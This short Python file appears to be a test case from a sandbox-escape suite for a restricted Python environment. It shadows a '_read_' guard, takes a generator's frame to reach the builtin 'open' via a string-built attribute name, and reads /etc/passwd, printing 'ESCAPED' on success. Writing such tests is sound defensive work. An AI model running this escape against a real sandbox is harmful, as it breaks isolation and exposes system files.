# tries: a variable of the enclosing function called like a guard
# class: shadowing
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


def outer():
    _read_ = None

    def inner():
        nonlocal _read_
        _read_ = lambda o, n: o

    inner()
    return (x for x in ()).gi_frame


use(pick(outer()))
